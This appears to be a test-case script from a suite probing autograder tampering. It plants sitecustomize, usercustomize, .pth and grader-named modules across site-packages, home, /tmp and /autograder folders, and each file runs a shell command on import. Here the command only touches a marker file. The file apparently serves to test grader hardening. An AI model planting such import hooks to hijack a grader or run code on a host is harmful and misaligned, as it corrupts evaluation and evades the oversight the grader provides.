"""Plants Python files the grader might import later (sitecustomize, usercustomize, a .pth,
modules named like the grader's) in the Python environment, its working folder, $HOME,
/tmp and the autograder's folders; each would run `touch /tmp/pwned-<uid>` when imported.

assignment: ffi_lowering
score: 0
markers:
  - /tmp/pwned-0
"""
import os, sys, sysconfig

code = "import os; os.system('touch /tmp/pwned-$(id -u)')\n"
folders = {sysconfig.get_paths()["purelib"], sys.prefix, ".", "..", os.path.expanduser("~"), "/tmp",
           "/autograder", "/autograder/source", "/autograder/source/tests", "/usr/lib/python3/dist-packages"}
for folder in folders:
    for name, text in (("sitecustomize.py", code), ("usercustomize.py", code), ("zz_pwn.pth", code),
                       ("autograder.py", code), ("otter.py", code), ("checks.py", code), ("dill.py", code)):
        try:
            with open(os.path.join(folder, name), "w") as f:
                f.write(text)
        except OSError:
            pass
